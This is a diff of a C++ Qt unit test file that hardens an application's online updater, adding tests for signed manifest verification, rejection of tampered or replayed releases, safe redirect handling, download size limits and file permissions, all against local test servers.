@@ -1,11 +1,14 @@
 #include "app/Ini.h"
 #include "app/Widgets.h"
 #include "ext/ExternalActions.h"
+#include "ext/UpdateManifest.h"
+#include "ext/UpdaterFetch.h"
 #include "ext/WWWUpdate.h"
 #include "pages/PageModel.h"
 #include "platform/Process.h"
 #include "support/TestSupport.h"
 
+#include <QCryptographicHash>
 #include <QDir>
 #include <QFile>
 #include <QFileInfo>
@@ -18,9 +21,22 @@
 #include <QTcpSocket>
 #include <QtTest>
 
+#include <sys/stat.h>
+
+#ifdef __SANITIZE_ADDRESS__
+// Freed blocks wait in the address sanitizer's quarantine (256 MB by default)
+// before their memory is used again; the bound on resident memory below would
+// count that as the download's. A small quarantine still catches a use after free.
+extern "C" const char *__asan_default_options()
+{
+    return "quarantine_size_mb=8";
+}
+#endif
+
 using Outcome = ExternalActions::UpdateOutcome;
 Q_DECLARE_METATYPE(wwwupdate::AddressCheck)
 Q_DECLARE_METATYPE(wwwupdate::DownloadStatus)
+Q_DECLARE_METATYPE(wwwupdate::ManifestStatus)
 
 namespace {
 
@@ -31,10 +47,13 @@ public:
     struct Route {
         QByteArray status = "200 OK";
         QByteArray body;
-        qint64 claimedLength = -1; // Content-Length sent; -1: the body's real size
+        qint64 claimedLength = -1; // Content-Length sent; -1: the body's real size; Unannounced: none
         QByteArray extraHeaders;   // complete lines, each ending in \r\n
         bool stall = false;        // never finish: no answer at all, or the body and no more
     };
+
+    // No Content-Length: the body ends where the server closes the connection.
+    static constexpr qint64 Unannounced = -2;
 
     TinyServer()
     {
@@ -65,8 +84,11 @@ private:
         if (r.stall && r.body.isEmpty())
             return;
         const qint64 length = r.claimedLength >= 0 ? r.claimedLength : r.body.size();
-        socket->write("HTTP/1.1 " + r.status + "\r\nContent-Length: " + QByteArray::number(length) +
-                      "\r\nConnection: close\r\n" + r.extraHeaders + "\r\n" + r.body);
+        const QByteArray lengthLine = r.claimedLength == Unannounced
+                                          ? QByteArray()
+                                          : "Content-Length: " + QByteArray::number(length) + "\r\n";
+        socket->write("HTTP/1.1 " + r.status + "\r\n" + lengthLine + "Connection: close\r\n" +
+                      r.extraHeaders + "\r\n" + r.body);
         if (!r.stall)
             socket->disconnectFromHost();
     }
@@ -86,7 +108,14 @@ const QByteArray UpdaterScript = "#!/bin/sh\n"
 struct Start {
     QString program;
     QStringList args;
+    QByteArray content; // the program file's bytes at the moment of the start
 };
+
+QByteArray contentOf(const QString &path)
+{
+    QFile f(path);
+    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
+}
 
 // Records every program start instead of starting it.
 class StartRecorder {
@@ -94,7 +123,7 @@ public:
     explicit StartRecorder(bool succeed = true)
     {
         platform::setStartHandler([this, succeed](const QString &p, const QStringList &a) {
-            starts << Start{p, a};
+            starts << Start{p, a, contentOf(p)};
             return succeed;
         });
     }
@@ -105,6 +134,140 @@ public:
 QStringList filesIn(const QString &dir)
 {
     return QDir(dir).entryList(QDir::Files | QDir::Hidden | QDir::System);
+}
+
+void writeFile(const QString &path, const QByteArray &content)
+{
+    QFile f(path);
+    QVERIFY2(f.open(QIODevice::WriteOnly | QIODevice::Truncate), qPrintable(path));
+    QCOMPARE(f.write(content), content.size());
+}
+
+int modeOf(const QString &path)
+{
+    struct stat st;
+    return ::stat(QFile::encodeName(path).constData(), &st) == 0 ? int(st.st_mode & 07777) : -1;
+}
+
+// The stored pair after a successful fetch, in the order entryList gives.
+QStringList storedPair()
+{
+    return {wwwupdate::UpdaterFileName, wwwupdate::ManifestFileName};
+}
+
+// A version above any this program will reach, and below or at the running one.
+const QString Newer = QStringLiteral("99.0");
+const QString Running = QStringLiteral(NAMORA_VERSION);
+const QString Older = QStringLiteral("0.9");
+
+// A publisher with its own key pair; while it lives the program checks updates
+// with its public key.
+class Publisher {
+public:
+    // Someone else's key pair is made with Trusted::No: the program does not know it.
+    enum class Trusted { Yes, No };
+    explicit Publisher(Trusted trusted = Trusted::Yes) : key(wwwupdate::makeSigningKey()), m_trusted(trusted)
+    {
+        if (m_trusted == Trusted::Yes)
+            wwwupdate::setUpdatePublicKey(key.publicKey);
+    }
+    ~Publisher()
+    {
+        if (m_trusted == Trusted::Yes)
+            wwwupdate::resetUpdatePublicKey();
+    }
+
+    static wwwupdate::FileFacts facts(const QByteArray &content)
+    {
+        return {content.size(), QCryptographicHash::hash(content, QCryptographicHash::Sha256)};
+    }
+    QByteArray manifest(const QByteArray &updater, const QString &version = Newer) const
+    {
+        wwwupdate::Manifest m;
+        m.version = version;
+        m.updater = facts(updater);
+        m.program = facts("the new program");
+        return wwwupdate::signManifest(m, key.seed);
+    }
+    // The server offers updater as the release version.
+    void serve(TinyServer &server, const QByteArray &updater, const QString &version = Newer) const
+    {
+        server.route("/Update.manifest", {"200 OK", manifest(updater, version), -1, {}, false});
+        server.route("/Update.exe", {"200 OK", updater, -1, {}, false});
+    }
+    // The program's directory holds updater with its manifest.
+    void store(const QString &updaterPath, const QByteArray &updater, const QString &version = Newer) const
+    {
+        writeFile(updaterPath, updater);
+        writeFile(wwwupdate::manifestPathFor(updaterPath), manifest(updater, version));
+    }
+
+    wwwupdate::SigningKey key;
+
+private:
+    Trusted m_trusted;
+};
+
+// A server that answers every request with a body of the given size, produced as
+// it is sent and never held: at most about a megabyte waits in its socket.
+class FloodServer : public QObject {
+public:
+    FloodServer(qint64 size, bool announce) : m_size(size), m_announce(announce), m_chunk(256 * 1024, 'z')
+    {
+        m_server.listen(QHostAddress::LocalHost);
+        connect(&m_server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
+                socket->setParent(this);
+                connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
+                    if (!socket->readAll().contains("\r\n\r\n") || m_socket)
+                        return;
+                    m_socket = socket;
+                    QByteArray head = "HTTP/1.1 200 OK\r\nConnection: close\r\n";
+                    if (m_announce)
+                        head += "Content-Length: " + QByteArray::number(m_size) + "\r\n";
+                    socket->write(head + "\r\n");
+                    pump();
+                });
+                connect(socket, &QTcpSocket::bytesWritten, this, [this] { pump(); });
+            }
+        });
+    }
+    QString base() const { return QStringLiteral("http://127.0.0.1:%1").arg(m_server.serverPort()); }
+    qint64 sent() const { return m_sent; }
+
+private:
+    void pump()
+    {
+        if (!m_socket || m_socket->state() != QAbstractSocket::ConnectedState)
+            return;
+        while (m_sent < m_size && m_socket->bytesToWrite() < 1024 * 1024) {
+            const qint64 n = qMin<qint64>(m_chunk.size(), m_size - m_sent);
+            m_socket->write(m_chunk.constData(), n);
+            m_sent += n;
+        }
+        if (m_sent == m_size)
+            m_socket->disconnectFromHost();
+    }
+
+    QTcpServer m_server;
+    qint64 m_size;
+    bool m_announce;
+    QByteArray m_chunk;
+    QTcpSocket *m_socket = nullptr;
+    qint64 m_sent = 0;
+};
+
+// A figure of /proc/self/status in bytes ("VmRSS", "VmHWM").
+qint64 memoryFigure(const char *name)
+{
+    QFile status(QStringLiteral("/proc/self/status"));
+    if (!status.open(QIODevice::ReadOnly))
+        return -1;
+    for (const QByteArray &line : status.readAll().split('\n')) {
+        if (line.startsWith(QByteArray(name) + ':'))
+            return line.mid(qstrlen(name) + 1).trimmed().split(' ').value(0).toLongLong() * 1024;
+    }
+    return -1;
 }
 
 } // namespace
@@ -138,6 +301,26 @@ private slots:
     void updaterThatCannotStartKeepsTheProgramRunning();
     void clickOnLabelUsesTheConfiguredServer();
     void closingTheWindowDuringDownloadLeavesNoFile();
+
+    void redirectNeverLeadsToPlainHttp_data();
+    void redirectNeverLeadsToPlainHttp();
+    void versionsCompareByTheirNumbers_data();
+    void versionsCompareByTheirNumbers();
+    void manifestNotSignedByOurKeyIsRefused_data();
+    void manifestNotSignedByOurKeyIsRefused();
+    void releaseThatIsNotSignedNewerAndExactIsRefused_data();
+    void releaseThatIsNotSignedNewerAndExactIsRefused();
+    void buildWithoutKeyRefusesToUpdate_data();
+    void buildWithoutKeyRefusesToUpdate();
+    void storedUpdaterFailingItsManifestIsNeverStarted_data();
+    void storedUpdaterFailingItsManifestIsNeverStarted();
+    void updaterChangedWhileAskingIsNotStarted();
+    void hugeResponseStopsAtTheLimitInLittleMemory_data();
+    void hugeResponseStopsAtTheLimitInLittleMemory();
+    void unexpectedBytesAreNeverPutInPlace_data();
+    void unexpectedBytesAreNeverPutInPlace();
+    void storedFilesAreOwnerOnlyWhateverTheUmask();
+    void tricklingServerMeetsTheDeadline();
 
 private:
     struct Run {
@@ -314,6 +497,16 @@ void WWWUpdateTest::downloadNamesWhyItFailed_data()
                                << S::Incomplete;
     QTest::newRow("redirect on this computer") << QByteArray("302 Found") << QByteArray() << -1ll
                                                << QByteArray("Location: /real\r\n") << false << S::Done;
+    QTest::newRow("redirect loop") << QByteArray("302 Found") << QByteArray() << -1ll
+                                   << QByteArray("Location: /U\r\n") << false << S::RedirectLoop;
+    QTest::newRow("redirect chain without end")
+        << QByteArray("302 Found") << QByteArray() << -1ll << QByteArray("Location: /c1\r\n") << false
+        << S::RedirectLoop;
+    QTest::newRow("redirect to plain http of another server on this computer")
+        << QByteArray("302 Found") << QByteArray() << -1ll
+        << QByteArray("Location: http://127.0.0.1:{other}/real\r\n") << false << S::Refused;
+    QTest::newRow("announced beyond the limit")
+        << QByteArray("200 OK") << QByteArray("abc") << 200000ll << QByteArray() << true << S::TooLarge;
 }
 
 void WWWUpdateTest::downloadNamesWhyItFailed()
@@ -325,17 +518,25 @@ void WWWUpdateTest::downloadNamesWhyItFailed()
     QFETCH(bool, stall);
     QFETCH(wwwupdate::DownloadStatus, expected);
     TinyServer server;
+    TinyServer other;
+    other.route("/real", {"200 OK", "real", -1, {}, false});
+    headers.replace("{other}", QByteArray::number(QUrl(other.base()).port()));
     server.route("/U", {status, body, claimed, headers, stall});
     server.route("/real", {"200 OK", "real", -1, {}, false});
+    for (int i = 1; i <= 20; ++i)
+        server.route("/c" + QByteArray::number(i),
+                     {"302 Found", {}, -1, "Location: /c" + QByteArray::number(i + 1) + "\r\n", false});
     QTemporaryDir dir;
     wwwupdate::URLDownload download;
     download.setTimeout(300);
+    download.setLimit(100000);
     QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
     download.start(QUrl(server.base() + QStringLiteral("/U")), dir.filePath(QStringLiteral("U")));
     QVERIFY(done.wait(10000));
     const auto result = done.first().first().value<wwwupdate::DownloadResult>();
     QVERIFY2(result.status == expected, qPrintable(result.reason));
     QCOMPARE(filesIn(dir.path()).size(), expected == wwwupdate::DownloadStatus::Done ? 1 : 0);
+    QVERIFY(other.requested().isEmpty());
 }
 
 void WWWUpdateTest::missingUpdaterIsFetchedMadeExecutableAndStarted()
@@ -343,7 +544,8 @@ void WWWUpdateTest::missingUpdaterIsFetchedMadeExecutableAndStarted()
     TinyServer server;
     // Large enough to arrive in several pieces.
     const QByteArray body = UpdaterScript + "#" + QByteArray(300000, 'x') + "\n";
-    server.route("/Update.exe", {"200 OK", body, -1, {}, false});
+    Publisher publisher;
+    publisher.serve(server, body);
     Run run;
     StartRecorder recorder;
     const auto v = run.values(server.base());
@@ -351,16 +553,16 @@ void WWWUpdateTest::missingUpdaterIsFetchedMadeExecutableAndStarted()
     QCOMPARE(run.update(v), Outcome::Started);
     QCOMPARE(run.ended, 1);
     QVERIFY(run.boxes.shown().isEmpty());
-    QCOMPARE(filesIn(run.programDir), QStringList{wwwupdate::UpdaterFileName});
-    QFile file(v.updaterPath);
-    QVERIFY(file.open(QIODevice::ReadOnly));
-    QCOMPARE(file.readAll(), body);
+    QCOMPARE(filesIn(run.programDir), storedPair());
+    QCOMPARE(contentOf(v.updaterPath), body);
+    QCOMPARE(contentOf(wwwupdate::manifestPathFor(v.updaterPath)), publisher.manifest(body));
     QVERIFY(QFileInfo(v.updaterPath).isExecutable());
     QVERIFY(!run.fixture.form->findChild<QProgressDialog *>(QStringLiteral("UpdateProgress")) ||
             !run.fixture.form->findChild<QProgressDialog *>(QStringLiteral("UpdateProgress"))->isVisible());
 
     QCOMPARE(recorder.starts.size(), 1);
     QCOMPARE(recorder.starts[0].program, v.updaterPath);
+    QCOMPARE(recorder.starts[0].content, body);
     const QStringList expected{QStringLiteral("[URL]") + server.base() + QStringLiteral("/Namora/Namora.exe"),
                                QStringLiteral("[PATH]namora")};
     QCOMPARE(recorder.starts[0].args, expected);
@@ -383,26 +585,38 @@ void WWWUpdateTest::failedDownloadLeavesNoFileAndReports_data()
     QTest::newRow("empty file") << "empty";
     QTest::newRow("redirect to plain http elsewhere") << "redirect";
     QTest::newRow("program directory gone") << "nodir";
+    QTest::newRow("manifest: server error") << "manifest500";
+    QTest::newRow("manifest: server stalls") << "manifeststall";
 }
 
 void WWWUpdateTest::failedDownloadLeavesNoFileAndReports()
 {
     QFETCH(QString, kind);
+    Publisher publisher;
     auto server = std::make_unique<TinyServer>();
     QString base = server->base();
-    if (kind == QLatin1String("500"))
+    // The manifest is in order; the updater's download is what fails.
+    publisher.serve(*server, UpdaterScript);
+    if (kind == QLatin1String("404"))
+        server->route("/Update.exe", {"404 Not Found", "no such file", -1, {}, false});
+    else if (kind == QLatin1String("500"))
         server->route("/Update.exe", {"500 Internal Server Error", UpdaterScript, -1, {}, false});
     else if (kind == QLatin1String("stall"))
         server->route("/Update.exe", {"200 OK", {}, -1, {}, true});
-    else if (kind == QLatin1String("short"))
-        server->route("/Update.exe", {"200 OK", UpdaterScript, UpdaterScript.size() + 5000, {}, false});
-    else if (kind == QLatin1String("empty"))
+    else if (kind == QLatin1String("short")) {
+        // The signed file is long; the server announces it whole and closes early.
+        const QByteArray whole = UpdaterScript + QByteArray(5000, '#');
+        server->route("/Update.manifest", {"200 OK", publisher.manifest(whole), -1, {}, false});
+        server->route("/Update.exe", {"200 OK", UpdaterScript, whole.size(), {}, false});
+    } else if (kind == QLatin1String("empty"))
         server->route("/Update.exe", {"200 OK", {}, -1, {}, false});
     else if (kind == QLatin1String("redirect"))
         server->route("/Update.exe",
                       {"302 Found", {}, -1, "Location: http://update.example.org/Update.exe\r\n", false});
-    else if (kind == QLatin1String("nodir"))
-        server->route("/Update.exe", {"200 OK", UpdaterScript, -1, {}, false});
+    else if (kind == QLatin1String("manifest500"))
+        server->route("/Update.manifest", {"500 Internal Server Error", "oops", -1, {}, false});
+    else if (kind == QLatin1String("manifeststall"))
+        server->route("/Update.manifest", {"200 OK", {}, -1, {}, true});
     else if (kind == QLatin1String("refused"))
         server.reset(); // nobody listens on that port any more
 
@@ -429,7 +643,9 @@ void WWWUpdateTest::failedDownloadLeavesNoFileAndReports()
 void WWWUpdateTest::cancelledDownloadLeavesNoFile()
 {
     TinyServer server;
-    // A quarter of the file arrives, then the server keeps the line open.
+    Publisher publisher;
+    // A quarter of the signed file arrives, then the server keeps the line open.
+    server.route("/Update.manifest", {"200 OK", publisher.manifest(QByteArray(4000, '#')), -1, {}, false});
     server.route("/Update.exe", {"200 OK", QByteArray(1000, '#'), 4000, {}, true});
     Run run;
     StartRecorder recorder;
@@ -442,7 +658,7 @@ void WWWUpdateTest::cancelledDownloadLeavesNoFile()
     auto *dialog = run.fixture.form->findChild<QProgressDialog *>(QStringLiteral("UpdateProgress"));
     QVERIFY(dialog);
     QTRY_VERIFY(dialog->isVisible());
-    QTRY_COMPARE(server.requested().size(), 1);
+    QTRY_COMPARE(server.requested().size(), 2);
     auto *bar = dialog->findChild<QProgressBar *>();
     QVERIFY(bar);
     QTRY_COMPARE(bar->value(), 250);
@@ -464,23 +680,23 @@ void WWWUpdateTest::cancelledDownloadLeavesNoFile()
 
 void WWWUpdateTest::presentUpdaterIsStartedWithoutDownload()
 {
+    // A stored updater that its signed manifest still describes, for a release
+    // newer than this program, is started as it is: the server is not asked.
     TinyServer server;
-    server.route("/Update.exe", {"200 OK", "newer", -1, {}, false});
+    Publisher publisher;
+    publisher.serve(server, "newer");
     Run run;
     StartRecorder recorder;
     const auto v = run.values(server.base());
-    QFile old(v.updaterPath);
-    QVERIFY(old.open(QIODevice::WriteOnly));
-    old.write("old updater");
-    old.close();
+    publisher.store(v.updaterPath, "old updater");
 
     QCOMPARE(run.update(v), Outcome::Started);
     QVERIFY(server.requested().isEmpty());
     QCOMPARE(recorder.starts.size(), 1);
     QCOMPARE(recorder.starts[0].program, v.updaterPath);
+    QCOMPARE(recorder.starts[0].content, QByteArray("old updater"));
     QCOMPARE(run.ended, 1);
-    QVERIFY(old.open(QIODevice::ReadOnly));
-    QCOMPARE(old.readAll(), QByteArray("old updater"));
+    QCOMPARE(contentOf(v.updaterPath), QByteArray("old updater"));
 }
 
 void WWWUpdateTest::insecureAddressIsRefusedBeforeAnything_data()
@@ -498,20 +714,18 @@ void WWWUpdateTest::insecureAddressIsRefusedBeforeAnything()
 {
     QFETCH(QString, server);
     QFETCH(bool, updaterPresent);
+    Publisher publisher;
     Run run;
     StartRecorder recorder;
     const auto v = run.values(server);
-    if (updaterPresent) {
-        QFile f(v.updaterPath);
-        QVERIFY(f.open(QIODevice::WriteOnly));
-        f.write(UpdaterScript);
-    }
+    if (updaterPresent)
+        publisher.store(v.updaterPath, UpdaterScript);
 
     QCOMPARE(run.update(v), Outcome::Refused);
     QVERIFY(recorder.starts.isEmpty());
     QCOMPARE(run.ended, 0);
     QVERIFY(!run.actions->isUpdating());
-    QCOMPARE(filesIn(run.programDir).size(), updaterPresent ? 1 : 0);
+    QCOMPARE(filesIn(run.programDir).size(), updaterPresent ? 2 : 0);
     QCOMPARE(run.boxes.shown().size(), 1);
     QVERIFY(run.boxes.shown()[0].prompt.contains(QLatin1String("https")));
     QCOMPARE(run.boxes.shown()[0].style, int(platform::OkCritical));
@@ -535,15 +749,13 @@ void WWWUpdateTest::unsavedNamesAnswerDecidesWhetherTheProgramEnds()
     QFETCH(bool, downloaded);
     QFETCH(Outcome, outcome);
     TinyServer server;
-    server.route("/Update.exe", {"200 OK", UpdaterScript, -1, {}, false});
+    Publisher publisher;
+    publisher.serve(server, UpdaterScript);
     Run run;
     StartRecorder recorder;
     const auto v = run.values(server.base());
-    if (!downloaded) {
-        QFile f(v.updaterPath);
-        QVERIFY(f.open(QIODevice::WriteOnly));
-        f.write(UpdaterScript);
-    }
+    if (!downloaded)
+        publisher.store(v.updaterPath, UpdaterScript);
     // A picture on the page, with a typed name unless nothing is to be asked.
     testing::writePictures(run.fixture.programDir.path(), {QStringLiteral("a.jpg")});
     Form1 &form = *run.fixture.form;
@@ -589,6 +801,7 @@ void WWWUpdateTest::typedNamesAreAskedAboutBeforeTheProgramEnds()
     testing::writePictures(fixture.pictureDir.path(), {QStringLiteral("a.jpg")});
     testing::MessageBoxes boxes;
     StartRecorder recorder;
+    Publisher publisher;
     Form1 &form = fixture.start();
     auto *actions = form.findChild<ExternalActions *>();
     int ended = 0;
@@ -596,10 +809,7 @@ void WWWUpdateTest::typedNamesAreAskedAboutBeforeTheProgramEnds()
     form.controls().Text1[0]->setPlainText(QStringLiteral("Urlaub"));
     const auto v = wwwupdate::updateValues(QStringLiteral("https://update.example.org"),
                                            fixture.programDir.path(), QStringLiteral("namora"));
-    QFile f(v.updaterPath);
-    QVERIFY(f.open(QIODevice::WriteOnly));
-    f.write(UpdaterScript);
-    f.close();
+    publisher.store(v.updaterPath, UpdaterScript);
     boxes.answer(answer);
 
     actions->OnlineUpdate(v.programUrl, v.programFile, v.updaterPath, v.updaterUrl, v.extra);
@@ -612,13 +822,11 @@ void WWWUpdateTest::typedNamesAreAskedAboutBeforeTheProgramEnds()
 
 void WWWUpdateTest::vanishedUpdaterIsReportedNotFound()
 {
+    Publisher publisher;
     Run run;
     StartRecorder recorder;
     const auto v = run.values(QStringLiteral("https://update.example.org"));
-    QFile f(v.updaterPath);
-    QVERIFY(f.open(QIODevice::WriteOnly));
-    f.write(UpdaterScript);
-    f.close();
+    publisher.store(v.updaterPath, UpdaterScript);
     // The updater goes away while the user answers the question.
     testing::writePictures(run.fixture.programDir.path(), {QStringLiteral("a.jpg")});
     run.fixture.form->model().reload();
@@ -644,13 +852,11 @@ void WWWUpdateTest::vanishedUpdaterIsReportedNotFound()
 
 void WWWUpdateTest::updaterThatCannotStartKeepsTheProgramRunning()
 {
+    Publisher publisher;
     Run run;
     StartRecorder recorder(false);
     const auto v = run.values(QStringLiteral("https://update.example.org"));
-    QFile f(v.updaterPath);
-    QVERIFY(f.open(QIODevice::WriteOnly));
-    f.write(UpdaterScript);
-    f.close();
+    publisher.store(v.updaterPath, UpdaterScript);
 
     QCOMPARE(run.update(v), Outcome::StartFailed);
     QCOMPARE(recorder.starts.size(), 1);
@@ -662,7 +868,8 @@ void WWWUpdateTest::updaterThatCannotStartKeepsTheProgramRunning()
 void WWWUpdateTest::clickOnLabelUsesTheConfiguredServer()
 {
     TinyServer server;
-    server.route("/Update.exe", {"200 OK", UpdaterScript, -1, {}, false});
+    Publisher publisher;
+    publisher.serve(server, UpdaterScript);
     testing::FormFixture fixture;
     fixture.writeSettings(QStringLiteral("[Einstellungen]\r\nUpdateServer=") + server.base() +
                           QStringLiteral("/\r\n"));
@@ -672,10 +879,10 @@ void WWWUpdateTest::clickOnLabelUsesTheConfiguredServer()
     auto *actions = fixture.form->findChild<ExternalActions *>();
     int ended = 0;
     actions->endProgram = [&] { ++ended; };
-    if (ini::IniRead(QStringLiteral("Einstellungen"), QStringLiteral("UpdateServer"), fixture.iniPath(),
-                     QString())
-            .isEmpty())
-        QSKIP("the settings reader does not read this file yet");
+    // A reader that cannot read this file is a fault, not a reason to skip.
+    QCOMPARE(ini::IniRead(QStringLiteral("Einstellungen"), QStringLiteral("UpdateServer"), fixture.iniPath(),
+                          QString()),
+             server.base() + QLatin1Char('/'));
 
     QTest::mouseClick(fixture.form->controls().Label1, Qt::LeftButton);
     QTRY_COMPARE_WITH_TIMEOUT(ended, 1, 10000);
@@ -693,13 +900,15 @@ void WWWUpdateTest::clickOnLabelUsesTheConfiguredServer()
 void WWWUpdateTest::closingTheWindowDuringDownloadLeavesNoFile()
 {
     TinyServer server;
+    Publisher publisher;
+    publisher.serve(server, UpdaterScript);
     server.route("/Update.exe", {"200 OK", {}, -1, {}, true});
     Run run;
     StartRecorder recorder;
     const auto v = run.values(server.base());
     QCOMPARE(run.actions->OnlineUpdate(v.programUrl, v.programFile, v.updaterPath, v.updaterUrl, v.extra),
              Outcome::Downloading);
-    QTRY_COMPARE(server.requested().size(), 1);
+    QTRY_COMPARE(server.requested().size(), 2);
 
     run.fixture.form->close();
     QVERIFY(!run.actions->isUpdating());
@@ -707,6 +916,537 @@ void WWWUpdateTest::closingTheWindowDuringDownloadLeavesNoFile()
     QVERIFY(run.boxes.shown().isEmpty());
     QVERIFY(recorder.starts.isEmpty());
     QCOMPARE(run.ended, 0);
+}
+
+void WWWUpdateTest::redirectNeverLeadsToPlainHttp_data()
+{
+    using C = wwwupdate::AddressCheck;
+    QTest::addColumn<QString>("origin");
+    QTest::addColumn<QString>("target");
+    QTest::addColumn<C>("check");
+    QTest::newRow("https to another https server") << "https://u.example/U"
+                                                   << "https://cdn.example/U" << C::Allowed;
+    QTest::newRow("https to plain http on this computer") << "https://u.example/U"
+                                                          << "http://127.0.0.1:8080/U" << C::Insecure;
+    QTest::newRow("https to plain http localhost") << "https://u.example/U"
+                                                   << "http://localhost/U" << C::Insecure;
+    QTest::newRow("https to plain http elsewhere") << "https://u.example/U"
+                                                   << "http://u.example/U" << C::Insecure;
+    QTest::newRow("loopback http within its own server") << "http://127.0.0.1:8080/U"
+                                                         << "http://127.0.0.1:8080/real" << C::Allowed;
+    QTest::newRow("loopback http to another port") << "http://127.0.0.1:8080/U"
+                                                   << "http://127.0.0.1:9090/U" << C::Insecure;
+    QTest::newRow("loopback http to another loopback name") << "http://127.0.0.1:8080/U"
+                                                            << "http://localhost:8080/U" << C::Insecure;
+    QTest::newRow("loopback http to https") << "http://127.0.0.1:8080/U"
+                                            << "https://u.example/U" << C::Allowed;
+    QTest::newRow("remote http origin to itself") << "http://u.example/U"
+                                                  << "http://u.example/real" << C::Insecure;
+    QTest::newRow("https to ftp") << "https://u.example/U"
+                                  << "ftp://u.example/U" << C::Insecure;
+    QTest::newRow("https to a local file") << "https://u.example/U"
+                                           << "file:///tmp/U" << C::Invalid;
+}
+
+void WWWUpdateTest::redirectNeverLeadsToPlainHttp()
+{
+    QFETCH(QString, origin);
+    QFETCH(QString, target);
+    QTEST(wwwupdate::checkRedirect(QUrl(origin, QUrl::StrictMode), QUrl(target, QUrl::StrictMode)), "check");
+}
+
+void WWWUpdateTest::versionsCompareByTheirNumbers_data()
+{
+    QTest::addColumn<QString>("a");
+    QTest::addColumn<QString>("b");
+    QTest::addColumn<int>("order");
+    QTest::newRow("numbers, not text") << "1.10"
+                                       << "1.9" << 1;
+    QTest::newRow("missing parts are zero") << "1.3"
+                                            << "1.3.0" << 0;
+    QTest::newRow("first part decides") << "2"
+                                        << "1.99.99" << 1;
+    QTest::newRow("older") << "1.2.9"
+                           << "1.3" << -1;
+    QTest::newRow("leading zeros") << "01.03"
+                                   << "1.3" << 0;
+}
+
+void WWWUpdateTest::versionsCompareByTheirNumbers()
+{
+    QFETCH(QString, a);
+    QFETCH(QString, b);
+    QFETCH(int, order);
+    QCOMPARE(qBound(-1, wwwupdate::compareVersions(a, b), 1), order);
+    QCOMPARE(qBound(-1, wwwupdate::compareVersions(b, a), 1), -order);
+}
+
+void WWWUpdateTest::manifestNotSignedByOurKeyIsRefused_data()
+{
+    using M = wwwupdate::ManifestStatus;
+    const wwwupdate::SigningKey ours = wwwupdate::makeSigningKey();
+    const wwwupdate::SigningKey theirs = wwwupdate::makeSigningKey();
+    QVERIFY(ours.isValid() && theirs.isValid());
+    const QByteArray hash(64, 'a');
+    const QByteArray lines =
+        "namora-update 1\nversion 2.0\nupdater 10 " + hash + "\nprogram 20 " + hash + "\n";
+    const QByteArray good = wwwupdate::signText(lines, ours.seed);
+    QTest::addColumn<QByteArray>("text");
+    QTest::addColumn<QByteArray>("key");
+    QTest::addColumn<M>("status");
+
+    QTest::newRow("signed by our key") << good << ours.publicKey << M::Valid;
+    QTest::newRow("no key in this build") << good << QByteArray() << M::NoKey;
+    QTest::newRow("no signature line") << lines << ours.publicKey << M::Unsigned;
+    QTest::newRow("empty") << QByteArray() << ours.publicKey << M::Unsigned;
+    QTest::newRow("signed by another key")
+        << wwwupdate::signText(lines, theirs.seed) << ours.publicKey << M::BadSignature;
+    QByteArray raised = good;
+    raised.replace("version 2.0", "version 9.0");
+    QTest::newRow("version raised after signing") << raised << ours.publicKey << M::BadSignature;
+    QByteArray resized = good;
+    resized.replace("updater 10 ", "updater 11 ");
+    QTest::newRow("size changed after signing") << resized << ours.publicKey << M::BadSignature;
+    QByteArray cut = good;
+    cut.chop(10);
+    QTest::newRow("signature cut short") << cut << ours.publicKey << M::BadSignature;
+    QByteArray garbled = good;
+    garbled.replace("signature ", "signature !!");
+    QTest::newRow("signature not base64") << garbled << ours.publicKey << M::BadSignature;
+    QByteArray crlf = good;
+    crlf.replace("\n", "\r\n");
+    QTest::newRow("line ends changed to CRLF") << crlf << ours.publicKey << M::BadSignature;
+    QTest::newRow("a line added after signing")
+        << QByteArray("extra\n" + good) << ours.publicKey << M::BadSignature;
+    QTest::newRow("larger than 4 KiB") << wwwupdate::signText(lines + QByteArray(5000, '#') + "\n", ours.seed)
+                                       << ours.publicKey << M::Malformed;
+    QTest::newRow("signed but another format")
+        << wwwupdate::signText("namora-update 2\nversion 2.0\n", ours.seed) << ours.publicKey << M::Malformed;
+    QByteArray bigUpdater = lines;
+    bigUpdater.replace("updater 10 ", "updater 67108865 ");
+    QTest::newRow("signed updater size beyond 64 MiB")
+        << wwwupdate::signText(bigUpdater, ours.seed) << ours.publicKey << M::Malformed;
+    QByteArray emptyUpdater = lines;
+    emptyUpdater.replace("updater 10 ", "updater 0 ");
+    QTest::newRow("signed empty updater")
+        << wwwupdate::signText(emptyUpdater, ours.seed) << ours.publicKey << M::Malformed;
+    QByteArray zeros = lines;
+    zeros.replace("updater 10 ", "updater 010 ");
+    QTest::newRow("size with a leading zero")
+        << wwwupdate::signText(zeros, ours.seed) << ours.publicKey << M::Malformed;
+    QByteArray upperHash = lines;
+    upperHash.replace(hash, QByteArray(64, 'A'));
+    QTest::newRow("hash in capitals")
+        << wwwupdate::signText(upperHash, ours.seed) << ours.publicKey << M::Malformed;
+    QByteArray badVersion = lines;
+    badVersion.replace("version 2.0", "version 2.0-beta");
+    QTest::newRow("version that is not numbers")
+        << wwwupdate::signText(badVersion, ours.seed) << ours.publicKey << M::Malformed;
+    QByteArray running = lines;
+    running.replace("version 2.0", "version " + QByteArray(NAMORA_VERSION));
+    QTest::newRow("running version replayed")
+        << wwwupdate::signText(running, ours.seed) << ours.publicKey << M::NotNewer;
+    QByteArray older = lines;
+    older.replace("version 2.0", "version 0.9.9");
+    QTest::newRow("older version replayed")
+        << wwwupdate::signText(older, ours.seed) << ours.publicKey << M::NotNewer;
+}
+
+void WWWUpdateTest::manifestNotSignedByOurKeyIsRefused()
+{
+    QFETCH(QByteArray, text);
+    QFETCH(QByteArray, key);
+    QFETCH(wwwupdate::ManifestStatus, status);
+    const wwwupdate::ManifestCheck check = wwwupdate::verifyManifest(text, key, Running);
+    QVERIFY2(check.status == status, qPrintable(check.reason));
+    if (status == wwwupdate::ManifestStatus::Valid) {
+        QCOMPARE(check.manifest.version, QStringLiteral("2.0"));
+        QCOMPARE(check.manifest.updater.size, 10);
+        QCOMPARE(check.manifest.updater.sha256, QByteArray::fromHex(QByteArray(64, 'a')));
+        QCOMPARE(check.manifest.program.size, 20);
+    }
+}
+
+void WWWUpdateTest::releaseThatIsNotSignedNewerAndExactIsRefused_data()
+{
+    QTest::addColumn<QString>("kind");
